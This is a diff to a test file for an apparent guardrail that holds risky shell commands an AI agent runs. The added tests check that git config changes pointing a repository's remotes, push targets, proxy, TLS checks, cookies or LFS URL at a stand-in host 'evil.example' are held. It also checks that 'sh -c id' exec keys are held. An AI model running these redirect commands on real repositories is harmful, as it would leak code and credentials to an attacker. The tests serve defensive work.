@@ -383,7 +383,7 @@ def config_allow_list(ctx):
     pol = _effects_policy(ctx)
     ws = _repo(ctx)
     for key in ("lfs.customtransfer.x.path", "lfs.extension.y.smudge", "imap.tunnel", "instaweb.httpd",
-                "help.browser", "diff.guitool", "http.cookiefile"):
+                "help.browser", "diff.guitool"):
         r = _held(ctx, ws, "git config %s 'sh -c id'" % key, pol, "git-config-exec")
         check(key in _reason(r), "the reason does not name %s: %r" % (key, _reason(r)))
     _committed(ctx, ws, "git config user.name someone && git config user.email s@example.com && "
@@ -401,6 +401,96 @@ def config_allow_list(ctx):
     _held(ctx, ws, "mkdir -p home && printf '[core]\\n\\tfsmonitor = id\\n' > home/.gitconfig", pol,
           "git-config-exec")
     _committed(ctx, ws, "mkdir -p home && printf '[user]\\n\\tname = x\\n' > home/.gitconfig", pol)
+
+
+def _remote_repo(ctx):
+    """A repository whose remote `origin` the user pushes to, with a
+    remote-tracking branch origin/main."""
+    ws = _repo(ctx)
+    sh("%s remote add origin https://github.com/u/r.git && %s update-ref refs/remotes/origin/main HEAD && "
+       "%s update-ref refs/remotes/origin/topic topic" % (GIT, GIT, GIT), cwd=ws)
+    return ws
+
+
+@test("effects/git-config-redirect-held")
+def config_redirect(ctx):
+    """A config change that sends an existing remote's pushes, fetches or
+    credentials elsewhere is held, its reason naming the key and the old
+    and new values (rt4/13)."""
+    pol = _effects_policy(ctx)
+    ws = _remote_repo(ctx)
+    evil = "https://evil.example/x.git"
+    for cmd, key, old in (
+            ("git remote set-url origin %s" % evil, "remote.origin.url", "https://github.com/u/r.git"),
+            ("git config remote.origin.pushurl %s" % evil, "remote.origin.pushurl", "(unset)"),
+            ("git remote remove origin && git remote add origin %s" % evil, "remote.origin.url", "github.com"),
+            ("git config --add remote.origin.url %s" % evil, "remote.origin.url", "github.com"),
+            ("git config --unset remote.origin.url", "remote.origin.url", "github.com"),
+            ("git config url.https://evil.example/.insteadOf https://github.com/", "url.https://evil.example/.insteadof",
+             "(unset)"),
+            ("git config url.https://evil.example/.pushInsteadOf https://github.com/",
+             "url.https://evil.example/.pushinsteadof", "(unset)"),
+            ("git config http.proxy http://evil.example:8080", "http.proxy", "(unset)"),
+            ("git config http.sslVerify false", "http.sslverify", "(unset)"),
+            ("git config http.https://github.com/.extraHeader 'X-Evil: https://evil.example'",
+             "http.https://github.com/.extraheader", "(unset)"),
+            ("git config http.sslCAInfo /tmp/evil.pem && git config http.evil.example.x 1", "http.sslcainfo", "(unset)"),
+            ("git config http.cookieFile /tmp/evil-cookies", "http.cookiefile", "(unset)"),
+            ("git config lfs.url https://evil.example/lfs", "lfs.url", "(unset)"),
+            ("git remote add fork %s && git config branch.main.pushRemote fork" % evil, "branch.main.pushremote",
+             "(unset)"),
+            ("git config remote.pushDefault %s" % evil, "remote.pushdefault", "(unset)"),
+            ("git remote add fork %s && git branch -q --set-upstream-to=origin/main && "
+             "git config branch.main.remote fork" % evil, "branch.main.remote", "(unset)"),
+            ("printf '[remote \"origin\"]\n\turl = %s\n' > .git/config.new && cat .git/config >> .git/config.new"
+             " && mv .git/config.new .git/config" % evil, "remote.origin.url", "github.com")):
+        r = _held(ctx, ws, cmd, pol, "git-config-redirect")
+        reason = _reason(r)
+        check(key in reason and old in reason, "the reason does not name %s and %s: %r" % (key, old, reason))
+    # a remote removed, or a config gone, may come back as new with another url
+    _held(ctx, ws, "git remote remove origin", pol, "git-config-redirect")
+    _held(ctx, ws, "rm .git/config", pol, "git-config-redirect")
+    # a repository whose HEAD is a symlink is still one (not a new clone)
+    sh("mv .git/HEAD .git/HEAD.real && ln -s refs/heads/main .git/HEAD", cwd=ws)
+    _held(ctx, ws, "git remote set-url origin %s" % evil, pol, "git-config-redirect")
+    sh("rm .git/HEAD && mv .git/HEAD.real .git/HEAD", cwd=ws)
+    # a linked worktree's config.worktree adds to the repository's remotes
+    sh("%s config extensions.worktreeConfig true && %s worktree add -q ../wt-%s 2>/dev/null"
+       % (GIT, GIT, os.path.basename(ws)), cwd=ws)
+    _held(ctx, ws, "git config --worktree remote.origin.pushurl %s" % evil, pol, "git-config-redirect")
+    _held(ctx, ws, "d=$(ls .git/worktrees) && printf '[remote \"origin\"]\n\tpushurl = %s\n' "
+          "> .git/worktrees/$d/config.worktree" % evil, pol, "git-config-redirect")
+    # a remote added in one transaction is no place to send main in the next
+    _committed(ctx, ws, "git remote add fork %s" % evil, pol)
+    for cmd in ("git config remote.pushDefault fork", "git config branch.main.pushRemote fork",
+                "git branch -q --set-upstream-to=origin/main && git config branch.main.remote fork"):
+        _held(ctx, ws, cmd, pol, "git-config-redirect")
+    # git-lfs takes lfs.url from the tree too
+    _held(ctx, ws, "printf '[lfs]\\n\\turl = %s\\n' > .lfsconfig" % evil, pol, "protected-files")
+    # a user's config in the workspace (HOME=$WS/...) rewrites every repository's URLs
+    _held(ctx, ws, "mkdir -p home && printf '[url \"%s\"]\n\tinsteadOf = https://github.com/\n' > home/.gitconfig"
+          % evil, pol, "git-config-redirect")
+
+
+@test("effects/git-config-remote-work-commits")
+def config_remote_work(ctx):
+    """What agents do with remotes still commits: a new remote, a clone,
+    a rename, an upstream on an existing remote, user.*, removing one."""
+    pol = _effects_policy(ctx)
+    ws = _remote_repo(ctx)
+    for cmd in ("git config user.name someone && git config user.email s@example.com",
+                "git branch -q --set-upstream-to=origin/main && git config branch.topic.remote origin",
+                "git checkout -q topic && git branch -q --set-upstream-to=origin/topic && git checkout -q main",
+                "git remote rename origin up && git branch -q --set-upstream-to=up/main",
+                "git config branch.main.pushRemote up",
+                "git remote add upstream https://example.com/up.git",
+                "%s init -q sub && cd sub && git remote add origin https://example.com/s.git && "
+                "git config branch.main.remote origin" % GIT):
+        _committed(ctx, ws, cmd, pol)
+    src = small_ws(ctx, prefix="upstream")
+    sh("%s init -q && %s add -A && %s commit -qm up" % (GIT, GIT, GIT), cwd=src)
+    _committed(ctx, ws, "%s clone -q %s clone && cd clone && %s branch -q --set-upstream-to=origin/main"
+               % (GIT, src, GIT), pol)
 
 
 @test("effects/ci-and-autorun-files-held")
